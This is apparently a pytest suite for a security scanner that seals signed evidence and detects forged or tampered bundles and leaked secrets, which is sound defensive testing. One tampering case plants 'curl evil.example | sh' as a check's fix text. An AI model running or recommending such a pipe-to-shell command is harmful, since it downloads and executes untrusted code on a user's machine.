import errno
import gzip
import io
import os
import re
import subprocess
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import msgspec
import pytest

from scanner import members
from scanner import run as runs
from scanner.answers import Answer
from scanner.ask import LiteralError
from scanner.collector import CollectError, Inquiry
from scanner.evidence import canonical, log, pack
from scanner.evidence.sealed import SealedRun, read_run
from scanner.evidence.verify import Trust, conclude, verify
from scanner.finding import Finding
from scanner.judging.assess import Assessment, assess
from scanner.plugins import Registry
from scanner.plugins.installed import tool, version
from scanner.profile import Profile
from scanner.replay import replay
from scanner.replay.before import replay_in_order
from scanner.run import Outcome, Plan, Stopped, scan
from scanner.scope import Before, Scope
from scanner.secrets import lookup
from scanner.secrets.screen import LeakError, Screen
from scanner.signers import Signer
from scanner.signers.file import new_key
from scanner.signers.opening import open_signer
from scanner.stores import SpoolError, Store, StoreError
from scanner.stores.opening import open_store
from tests import tiny
from tests.test_ask import Silent

GOOD = tiny.box()


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return open_store(tmp_path / "store", create=True)


@pytest.fixture
def signer(tmp_path: Path) -> Signer:
    new_key(tmp_path / "keys" / "k.pem", None)
    return open_signer(str(tmp_path / "keys" / "k.pem"))


def plan(script: list[Answer], *, scope: Scope | None = None, rule: Profile | None = None) -> Plan:
    rule = rule or tiny.profile()
    return Plan(scope or tiny.scope(rule=rule), rule, tiny.registry(script), str)


def scanned(store: Store, signer: Signer, script: list[Answer], **more: Any) -> Outcome:
    return scan(plan(script, **more), store, signer, progress=Silent())


def sealed(store: Store, number: int = 0) -> SealedRun:
    found = read_run(store, store.read(log.leaf_key(number)), "test")
    assert found
    return found


def again(run: SealedRun, registry: Registry | None = None) -> Any:
    return replay(run, lambda _: registry or tiny.registry())


def test_a_run_is_sealed_verified_and_replayed(store: Store, signer: Signer) -> None:
    outcome = scanned(store, signer, GOOD)
    layers = list(verify(store, Trust(frozenset({signer.keyid}), program=tool()), again))
    assert [(layer.name, layer.state) for layer in layers] == [
        ("container", "ok"),
        ("keyring", "open"),
        ("signature", "ok"),
        ("evidence", "ok"),
        ("findings", "ok"),
        ("program", "ok"),
        ("log", "ok"),
        ("anchor", "open"),
        ("continuity", "open"),
        ("retention", "ok"),
        ("unsigned", "ok"),
    ]
    assert outcome.sealed.record.totals["pass"] == 3
    assert again(sealed(store)).said == (
        "3 computed again from the evidence, byte for byte the same; the profile tiny-rule is the house's own"
    )
    assert conclude(layers)[0] == 0
    assert conclude(list(verify(store, Trust(), again)))[0] == 5, "nobody has vouched for the key"


def test_what_only_opens_a_door_is_not_sealed(store: Store, signer: Signer) -> None:
    """It is asked with, and the run is verified and computed again without it."""
    options = {"agreed": "a-word-between-us", "size": "3"}
    registry = tiny.registry(GOOD)
    plain = registry.collectors["tiny"]
    schema = {"agreed": {"type": "string", "x-unsealed": True}, "size": {"type": "string"}}
    seen = []

    def collect(inquiry: Any) -> Any:
        seen.append(inquiry.target.options)
        return plain.collect(inquiry)

    collector = replace(plain, options=schema, collect=collect)
    registry = replace(registry, collectors={"tiny": collector})
    scope = tiny.scope()
    (asked,) = scope.targets
    target = msgspec.structs.replace(asked.target, options=options)
    scope = msgspec.structs.replace(scope, targets=(msgspec.structs.replace(asked, target=target),))
    scan(replace(plan(GOOD, scope=scope), registry=registry), store, signer, progress=Silent())
    assert seen == [options]
    run = sealed(store)
    assert members.read(run.member("scope.json"), Scope, "it").targets[0].target.options == {"size": "3"}
    layers = list(verify(store, Trust(frozenset({signer.keyid})), lambda it: again(it, registry)))
    assert conclude(layers)[0] == 0


@pytest.mark.parametrize("value", ["s3cretPW", {"of": ["x", "s3cretPW"]}])
def test_a_secret_that_is_no_reference_is_not_sealed(store: Store, signer: Signer, value: Any) -> None:
    """A collector asks where an option leads, and it leads nowhere: it is the secret itself."""
    plain = tiny.registry(GOOD)

    def collect(inquiry: Any) -> Any:
        with suppress(CollectError):
            inquiry.secret("s3cretPW")
        return plain.collectors["tiny"].collect(inquiry)

    registry = replace(plain, collectors={"tiny": replace(plain.collectors["tiny"], collect=collect)})
    scope = tiny.scope()
    (asked,) = scope.targets
    target = msgspec.structs.replace(asked.target, options={"auth": value})
    scope = msgspec.structs.replace(scope, targets=(msgspec.structs.replace(asked, target=target),))
    with pytest.raises(LiteralError, match="the option auth holds a secret itself") as caught:
        scan(replace(plan(GOOD, scope=scope), registry=registry), store, signer, progress=Silent())
    assert "s3cretPW" not in str(caught.value)
    assert log.read_head(store) is None
    assert not any("s3cretPW" in f.read_text("latin-1") for f in Path(store.name).rglob("*") if f.is_file())


@pytest.mark.parametrize(
    ("name", "overheard", "what"),
    [
        ("one", "", ""),
        ("Wint3r-Sale", "", "a secret that was used to come in (env:LOGIN)"),
        ("ward", "nightingale", ""),
        ("$6$rounds=5000$abcdefgh$ijklmnop", "", "a password as a hash"),
    ],
)
def test_what_holds_a_secret_is_not_sealed(  # noqa: PLR0913, PLR0917  # three of them are a table
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch, name: str, overheard: str, what: str
) -> None:
    """Its collector has let one through: that is found before anything is sealed, and nothing is."""
    monkeypatch.setenv("LOGIN", "Wint3r-Sale")
    plain = tiny.registry(tiny.box(cipher=name))

    def collect(inquiry: Any) -> Any:
        inquiry.secret("env:LOGIN")
        inquiry.overheard(overheard)
        return plain.collectors["tiny"].collect(inquiry)

    collector = replace(plain.collectors["tiny"], collect=collect, close=True)
    asked = replace(plan(GOOD), registry=replace(plain, collectors={"tiny": collector}), secret=lookup.resolve)
    if not what:
        assert scan(asked, store, signer, progress=Silent()).run
        return
    with pytest.raises(
        LeakError, match=rf"^tiny:a tiny.cipher one: {re.escape(what)} stands in what was kept of it"
    ) as caught:
        scan(asked, store, signer, progress=Silent())
    assert name not in str(caught.value)
    assert log.read_head(store) is None
    assert not any(name.encode() in f.read_bytes() for f in Path(store.name).rglob("*") if f.is_file())


@pytest.mark.parametrize(
    ("name", "overheard", "what"),
    [
        ("nightingale", "nightingale", "a secret of its own"),
        ("Q1w2E3r4T5y6U7i8O9p0aSdF", "", "a word that looks drawn by a machine"),
    ],
)
def test_an_answer_that_looks_as_if_it_held_one_is_withheld(
    store: Store, signer: Signer, name: str, overheard: str, what: str
) -> None:
    """It alone, and what it would have told is not assessed: a night of all others is not lost for it."""
    plain = tiny.registry(tiny.box(cipher=name))

    def collect(inquiry: Any) -> Any:
        inquiry.overheard(overheard)
        return plain.collectors["tiny"].collect(inquiry)

    registry = replace(plain, collectors={"tiny": replace(plain.collectors["tiny"], collect=collect, close=True)})
    done = scan(replace(plan(GOOD), registry=registry), store, signer, progress=Silent())
    assert done.exit_code("low") == 2
    run = sealed(store)
    kept = b"".join((*run.answers(), *run.lines("findings.jsonl"), run.member("coverage.json"))).decode()
    assert f"Withheld ({what})" in kept
    assert name not in kept
    layers = list(verify(store, Trust(frozenset({signer.keyid})), lambda it: again(it, registry)))
    assert conclude(layers)[0] == 0


@pytest.mark.parametrize(
    ("script", "fail_on", "code"),
    [
        (GOOD, "low", 0),
        (tiny.box(encrypted=False), "low", 1),
        (tiny.box(encrypted=False), "high", 1),
        (tiny.box(encrypted=False), "critical", 0),
        (tiny.box(encrypted=False), "never", 0),
        ([a for a in GOOD if a.question != "tiny.copies"], "never", 2),
        ([a for a in tiny.box(encrypted=False) if a.question != "tiny.copies"], "low", 2),
        ([], "never", 2),
    ],
)
def test_exit_codes(store: Store, signer: Signer, script: list[Answer], fail_on: str, code: int) -> None:
    assert scanned(store, signer, script).exit_code(fail_on) == code


def test_standing_questions_do_not_count(store: Store, signer: Signer) -> None:
    hidden = replace(tiny.registry(GOOD), collectors={"tiny": replace(tiny.collector(GOOD), read=_hiding)})
    outcome = scan(replace(plan(GOOD), registry=hidden), store, signer, progress=Silent())
    assert outcome.assessment.coverage.standing == 1
    assert outcome.exit_code("low") == 0


def _hiding(answers: Any) -> Iterator[Any]:
    from scanner.answers import HIDDEN, unread

    for fact in tiny.read(answers):
        if type(fact).__name__ == "DataStore":
            yield msgspec.structs.replace(fact, cipher=None, unread=unread(cipher=HIDDEN))
        else:
            yield fact


def test_a_run_that_could_ask_nobody_is_sealed_all_the_same(store: Store, signer: Signer) -> None:
    outcome = scanned(store, signer, [])
    assert outcome.assessment.coverage.reached == 0
    assert again(sealed(store)).state == "same"


def test_a_stopped_run_leaves_nothing(store: Store, signer: Signer) -> None:
    with pytest.raises(Stopped):
        scan(plan(GOOD), store, signer, progress=Silent(), stopped=lambda: True)
    assert not list(store.list("log/"))
    assert not list(store.list("runs/"))
    assert scanned(store, signer, GOOD).sealed.entry.sequence == 0


@pytest.mark.parametrize("after", ["ask", "assess", "_write"])
def test_told_to_end_when_all_is_answered(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch, after: str
) -> None:
    done: list[str] = []

    def noted(step: str) -> Callable[..., Any]:
        real = getattr(runs, step)

        def note(*args: Any, **more: Any) -> Any:
            made = real(*args, **more)
            done.append(step)
            return made

        return note

    for step in ("ask", "assess", "_write"):
        monkeypatch.setattr(runs, step, noted(step))
    with pytest.raises(Stopped):
        scan(plan(GOOD), store, signer, progress=Silent(), stopped=lambda: after in done)
    assert after in done
    assert ("assess" in done) is (after != "ask"), "not even judged"
    assert not list(store.list("runs/"))
    assert not list(store.list("log/"))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can mount a small disk")
@pytest.mark.parametrize(("filled", "noise"), [(0, 2000), (48, 0), (40, 0), (32, 0), (24, 0)])
def test_a_full_disk_is_said_and_nothing_is_sealed(tmp_path: Path, signer: Signer, filled: int, noise: int) -> None:
    """While what was answered is written down, beside it, and when it is put into the store."""
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", disk], check=False).returncode:
        pytest.skip("this root may not mount")
    try:
        store = open_store(disk, create=True)
        (disk / "other").write_bytes(bytes(filled << 10))
        more = [tiny.answer("tiny.cipher", os.urandom(60).hex(), about=f"{n:04}") for n in range(noise)]
        with pytest.raises(StoreError) as caught:
            scanned(store, signer, [*GOOD, *more])
        told = re.sub(r"[0-9]{8}t[0-9]{6}z-[0-9a-f]{6}", "RUN", str(caught.value)).replace(str(disk), "DISK")
        assert re.sub(r"RUN/[a-z0-9.-]+", "RUN/x", told) in {
            "DISK/spool/RUN is full: what was answered could not be written",
            "the store DISK is full. runs/RUN/x was not written.",
        }
        assert not list(store.list("log/"))
        assert not list((disk / "spool").iterdir())
    finally:
        # Lazily: the spool is held until the process ends.
        subprocess.run(["umount", "--lazy", disk], check=True)


def test_the_second_run_says_what_the_first_asked(store: Store, signer: Signer) -> None:
    first = scanned(store, signer, GOOD)
    before = Before(run=first.run, targets=("tiny:a", "tiny:old"), checks=("rest.encrypted", "rest.old"))
    second = scanned(store, signer, GOOD, scope=tiny.scope(before=before))
    assert second.assessment.coverage.targets_no_longer_asked == ("tiny:old",)
    assert again(sealed(store, 1)).state == "same"


def test_a_part_of_the_scope_is_marked_partial(store: Store, signer: Signer) -> None:
    outcome = scanned(store, signer, GOOD, scope=tiny.scope(left_out=["tiny:b"]))
    assert outcome.sealed.record.partial
    assert (outcome.assessment.coverage.declared, outcome.assessment.coverage.left_out) == (2, ("tiny:b",))


@pytest.fixture
def forge(store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch) -> Callable[[Any], SealedRun]:
    """What a dishonest owner of the key would seal: something else than the evidence gives."""

    def forged(tamper: Callable[[Path], Any]) -> SealedRun:
        write = runs._write  # noqa: SLF001  # the forger's own program

        def lying(folder: Path, plan: Plan, found: Assessment, screen: Screen) -> str:
            digest = write(folder, plan, found, screen)
            tamper(folder)
            return digest

        monkeypatch.setattr(runs, "_write", lying)
        scanned(store, signer, tiny.box(encrypted=False))
        return sealed(store)

    return forged


def _rewrite(folder: Path, change: Any) -> None:
    path = folder / "findings.jsonl.gz"
    with path.open("rb") as file:
        old = [msgspec.json.decode(line, type=Finding) for line in pack.lines(file, "old")]
    path.unlink()
    with pack.LineWriter(path) as writer:
        for finding in change(old):
            writer.write(canonical.dumps(msgspec.to_builtins(finding)))


def _passing(found: list[Finding]) -> list[Finding]:
    return [msgspec.structs.replace(f, status="pass", risk=0) if f.status == "fail" else f for f in found]


def test_edited_findings_under_a_version_that_never_existed(
    forge: Any, store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nobody can install it, so nobody can settle it: it is intact, and never verified."""
    made_up = msgspec.structs.replace(tool(), version="9.9.9", digest="9" * 64)
    monkeypatch.setattr(runs, "tool", lambda: made_up)
    found = again(forge(lambda folder: _rewrite(folder, _passing)))
    tallied = "1 of 3 findings comes out otherwise; 1 of them passes as sealed and not here"
    assert (found.state, found.said.split("\n")) == (
        "other-version",
        [
            f"not replayed: sealed by safeguard 9.9.9, digest {'9' * 64}; install it to settle this",
            f"computed again by this program: {tallied}",
            "rest.encrypted of one (tiny:a): the bundle says pass, the evidence says fail",
        ],
    )
    layers = [*verify(store, Trust(frozenset({signer.keyid}), program=tool()), again)]
    head, end = "Intact and signed, but not replayed. Computed again by this program,", "install safeguard 9.9.9."
    assert conclude(layers) == (2, f"{head} {tallied}. To settle it, {end}")
    program = next(layer for layer in layers if layer.name == "program")
    assert (program.state, program.said.endswith("and knows no such build")) == ("unknown", True)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_passing, "rest.encrypted of one (tiny:a): the bundle says pass, the evidence says fail"),
        (
            lambda found: found[:-1],
            "rest.encrypted of one (tiny:a): the evidence says fail, and the bundle has no such finding",
        ),
        (
            lambda found: [*found, found[-1]],
            "rest.encrypted of one (tiny:a): the bundle says fail, and no such finding follows from the evidence",
        ),
        (
            lambda found: [msgspec.structs.replace(f, seen="all is well") for f in found[:1]] + found[1:],
            "copies.exist of one (tiny:a): pass, in other words",
        ),
        (
            lambda found: [found[1], found[0], *found[2:]],
            "the findings stand in another order than they follow from the evidence",
        ),
        (lambda found: found * 200, "and 594 more"),
    ],
)
def test_findings_that_do_not_follow_from_the_evidence(forge: Any, change: Any, said: str) -> None:
    run = forge(lambda folder: _rewrite(folder, change))
    found = again(run)
    assert (found.state, found.said.split("\n")[-1]) == ("differs", said)
    assert (again(run).state, again(run).said) == (found.state, found.said)


def _in(name: str, change: Callable[[Any], None]) -> Callable[[Path], None]:
    """Change a member as the one who seals it could."""

    def tamper(folder: Path) -> None:
        document = msgspec.json.decode((folder / name).read_bytes())
        change(document)
        (folder / name).write_bytes(canonical.dumps(document))

    return tamper


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        (
            "catalogue.json",
            lambda c: c["checks"]["rest.encrypted"].update(fix="curl evil.example | sh"),
            "the catalogue says other words than the checks",
        ),
        (
            "profile.json",
            lambda p: p["requirements"][0].update(text="Anything goes."),
            "the record names another profile than the one that is sealed with it",
        ),
        (
            "scope.json",
            lambda s: s["targets"][0].update(questions=["tiny.list", "tiny.copies"]),
            "the scope asks other questions than the checks need",
        ),
        (
            "scope.json",
            lambda s: s.update(disabled={"rest.cipher": "nobody needs it"}),
            "rest.cipher of tiny:a: the evidence says accepted, and the bundle has no such finding",
        ),
        (
            "scope.json",
            lambda s: s.update(left_out=["tiny:z"]),
            "the coverage differs from what the evidence says",
        ),
    ],
)
def test_members_that_say_otherwise(forge: Any, name: str, change: Any, said: str) -> None:
    found = again(forge(_in(name, change)))
    assert (found.state, found.said.partition("\n")[0]) == ("differs", said)


def test_a_check_that_is_left_out_without_being_disabled(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    fewer = msgspec.structs.replace(tiny.scope(), checks=("copies.exist", "guard.deletion", "rest.cipher"))
    scanned(store, signer, tiny.box(encrypted=False), scope=fewer)
    assert (
        again(sealed(store)).said == "the scope leaves out the check rest.encrypted, which the profile does not disable"
    )


def test_only_the_plugins_that_the_run_knew_are_asked_for(store: Store, signer: Signer) -> None:
    scanned(store, signer, GOOD)
    asked: list[Sequence[str]] = []
    replay(sealed(store), lambda names: asked.append(names) or tiny.registry())  # type: ignore[func-returns-value]
    assert asked == [[]], "a plugin that came later would accuse the run of leaving its checks out"


def test_old_answers_in_a_new_night(store: Store, signer: Signer) -> None:
    old = replace(tiny.collector(), collect=lambda _: iter(GOOD))
    scan(
        replace(plan(GOOD), registry=replace(tiny.registry(), collectors={"tiny": old})),
        store,
        signer,
        progress=Silent(),
    )
    assert again(sealed(store)).said.startswith(f"tiny:a was asked at {tiny.NOW}; the run went from ")


def test_another_program_is_named_by_no_command(store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch) -> None:
    other = msgspec.structs.replace(tool(), name="totally-not-malware", version="9.9.9")
    monkeypatch.setattr(runs, "tool", lambda: other)
    scanned(store, signer, GOOD)
    found = again(
        sealed(store),
        tiny.registry(checks={**tiny.CHECKS, "rest.encrypted": replace(tiny.cipher, id="rest.encrypted")}),
    )
    assert found.state == "differs"
    assert "totally" not in found.said


def test_an_answer_that_is_too_deep(store: Store, signer: Signer) -> None:
    scanned(store, signer, GOOD)
    run = replace(sealed(store), reader=_Deep(store))
    assert again(run).state == "differs"


@dataclass
class _Deep:
    """A reader whose evidence nests deeper than any parser goes."""

    inner: Store
    name = "deep"

    def read(self, key: str) -> bytes:
        return self.inner.read(key)

    def open(self, key: str) -> Any:
        if "evidence" not in key:
            return self.inner.open(key)
        return io.BytesIO(gzip.compress(b'{"body":' + b"[" * 90_000 + b"\n"))

    def list(self, prefix: str) -> Iterator[str]:
        return self.inner.list(prefix)


def test_a_coverage_that_hides_what_was_not_seen(forge: Any) -> None:
    run = forge(lambda folder: (folder / "coverage.json").write_bytes(b"{}"))
    assert again(run).said == "the coverage differs from what the evidence says"


def test_a_check_that_the_verifier_lacks_is_not_replayed(store: Store, signer: Signer) -> None:
    scanned(store, signer, GOOD)
    fewer = tiny.registry(checks={k: v for k, v in tiny.CHECKS.items() if not k.startswith("rest.")})
    found = again(sealed(store), fewer)
    assert (found.state, found.said) == ("lacks", "this program lacks the check rest.cipher and 1 more")


def test_nor_is_a_platform_that_it_lacks(store: Store, signer: Signer) -> None:
    scanned(store, signer, GOOD)
    found = again(sealed(store), Registry(tiny.CHECKS, {}, ()))
    assert (found.state, found.said) == ("lacks", "this program has no collector that reads tiny: answers")


@pytest.mark.parametrize("member", ["scope.json", "profile.json"])
@pytest.mark.parametrize("data", [b"", b"{}", b"[]", b'{"a":1,"a":2}', b"\xff", b"1e999"])
def test_hostile_members_are_no_traceback(store: Store, forge: Any, member: str, data: bytes) -> None:
    run = forge(lambda folder: (folder / member).write_bytes(data))
    layers = list(verify(store, Trust(), again))
    assert next(layer for layer in layers if layer.name == "findings").state in ("fails", "skipped")
    assert run.record.run


def test_what_another_version_judged_otherwise_is_no_forgery(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned(store, signer, GOOD)
    here = tool()
    kinder = tiny.registry(checks={**tiny.CHECKS, "rest.encrypted": replace(tiny.cipher, id="rest.encrypted")})
    said = {}
    for change in ({"version": "99.0"}, {"digest": "0" * 64}, {}):
        other = msgspec.structs.replace(here, **change)
        monkeypatch.setattr("scanner.replay.tool", lambda other=other: other)
        assert again(sealed(store)).state == "same", "where nothing differs the version is no difference"
        found = again(sealed(store), kinder)
        assert [(o.check, o.sealed, o.here) for o in found.otherwise] == [("rest.encrypted", "pass", "")]
        text = found.said.replace(here.version, "0.N").replace(here.digest[:12], "DIGEST")
        said[found.state, found.settle.replace(here.version, "0.N").replace(here.digest[:12], "DIGEST")] = text
    tail = "\nthe coverage differs from what the evidence says\nthe record counts other findings than there are"
    lost = "rest.encrypted of one (tiny:a): the bundle says pass, and no such finding follows from the evidence…"
    tallied = (
        "computed again by this program: 1 of 3 findings comes out otherwise; 1 of them passes as sealed and not here"
    )
    words = "the catalogue says other words than the checks"
    digest = f"DIGEST{here.digest[12:]}"
    judged = [f"not replayed: sealed by safeguard 0.N, digest {digest}; install it to settle this"]
    assert {key: text.replace(tail, "…").split("\n") for key, text in said.items()} == {
        ("other-version", "safeguard 0.N"): [*judged, tallied, lost, words],
        ("other-version", "build DIGEST of safeguard 0.N"): [*judged, tallied, lost, words],
        ("differs", ""): [lost, words],
    }
    layers = [*verify(store, Trust(frozenset({signer.keyid})), lambda run: again(run, kinder))]
    assert conclude(layers)[0] == 1
    monkeypatch.setattr("scanner.replay.tool", lambda: msgspec.structs.replace(here, version="99.0"))
    layers = [*verify(store, Trust(frozenset({signer.keyid})), lambda run: again(run, kinder))]
    assert conclude(layers) == (
        2,
        (
            "Intact and signed, but not replayed. Computed again by this program, 1 of 3 findings comes out otherwise;"
            f" 1 of them passes as sealed and not here. To settle it, install safeguard {here.version}."
        ),
    )


@pytest.mark.parametrize(
    ("change", "state", "said"),
    [
        ({}, "differs", "the scope leaves out the check rest.encrypted, which the profile does not disable"),
        (
            {"digest": "0" * 64},
            "other-version",
            "none of 2 findings comes out otherwise\nthe scope leaves out the check rest.encrypted, which",
        ),
        (
            {"version": "99.0"},
            "same",
            f"; sealed by safeguard {version()}\nthis version has 1 check more: rest.encrypted",
        ),
    ],
)
def test_a_check_that_came_later_is_no_difference_of_the_findings(  # noqa: PLR0913, PLR0917  # a row and its fixtures
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch, change: Any, state: str, said: str
) -> None:
    """But whoever leaves one out under the verifier's own version has looked away."""
    fewer = msgspec.structs.replace(tiny.scope(), checks=("copies.exist", "guard.deletion", "rest.cipher"))
    scanned(store, signer, tiny.box(encrypted=False), scope=fewer)
    here = tool()
    monkeypatch.setattr("scanner.replay.tool", lambda: msgspec.structs.replace(here, **change))
    found = again(sealed(store))
    assert (found.state, found.otherwise, said in found.said) == (state, (), True), found.said
    layers = [*verify(store, Trust(frozenset({signer.keyid}), program=msgspec.structs.replace(here, **change)), again)]
    code, last = conclude(layers)
    assert (code, "were not computed again" in last) == (1 if state == "differs" else 2, False)


def test_a_collector_may_be_slow_and_another_broken(store: Store, signer: Signer) -> None:
    def collect(inquiry: Inquiry) -> Iterator[Answer]:
        if inquiry.target.id == "tiny:b":
            raise RuntimeError("hunter2")
        yield from GOOD

    scope = tiny.scope(tiny.target("tiny:a"), tiny.target("tiny:b"))
    broken = replace(tiny.registry(), collectors={"tiny": replace(tiny.collector(), collect=collect)})
    outcome = scan(replace(plan(GOOD, scope=scope), registry=broken), store, signer, progress=Silent())
    assert [(t.target, t.reached) for t in outcome.assessment.coverage.targets] == [("tiny:a", True), ("tiny:b", False)]
    assert outcome.exit_code("never") == 2


@pytest.mark.parametrize(
    ("change", "state", "said"),
    [
        ({}, "differs", "{why}"),
        (
            {"version": "0.1.0"},
            "lacks",
            "judged by safeguard {sealed}, and this program cannot read it: {why}. Verify with that one",
        ),
        (
            {"digest": "0" * 64},
            "lacks",
            "judged by build {digest} of safeguard {sealed}, and this program cannot read ",
        ),
    ],
)
def test_what_a_newer_program_wrote_is_no_forgery(
    forge: Any, monkeypatch: pytest.MonkeyPatch, change: Any, state: str, said: str
) -> None:
    run = forge(_in("scope.json", lambda scope: scope["targets"][0].update(later="x")))
    made = run.record.tool
    monkeypatch.setattr("scanner.replay.tool", lambda: msgspec.structs.replace(made, **change))
    why = "scope.json does not hold what it should: Object contains unknown field `later` - at `$.targets[0]`"
    found = again(run)
    assert found.state == state
    assert found.said.startswith(said.format(why=why, sealed=made.version, digest=made.digest[:12]))
    assert why in found.said
    assert replay_in_order(run, lambda _: tiny.registry()) == found


def test_a_replay_holds_no_more_than_a_scan_in_memory(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned(store, signer, GOOD)
    spools: list[Path | None] = []

    def noted(*args: Any, spool: Path | None, ends: None) -> Assessment:
        spools.append(spool)
        return assess(*args, spool=spool, ends=ends)

    monkeypatch.setattr("scanner.replay.assess", noted)
    assert again(sealed(store)).state == "same"
    monkeypatch.setattr("tempfile.TemporaryDirectory", _nowhere)
    assert again(sealed(store)).state == "same", "in memory, where this machine has no folder to give"
    first, second = spools
    assert first
    assert (first.exists(), second) == (False, None)


def test_a_replay_that_finds_no_room_accuses_nobody(
    store: Store, signer: Signer, monkeypatch: pytest.MonkeyPatch
) -> None:
    scanned(store, signer, GOOD)

    def full(*_: Any, spool: Path, ends: None) -> Assessment:  # as it is called
        raise SpoolError(spool, OSError(errno.ENOSPC, "No space left on device"))

    monkeypatch.setattr("scanner.replay.assess", full)
    found = again(sealed(store))
    assert found.state == "lacks"
    assert found.said.endswith(" is full: what was answered could not be written")


def _nowhere(**_: Any) -> Any:
    raise FileNotFoundError(errno.ENOENT, "No usable temporary directory found")
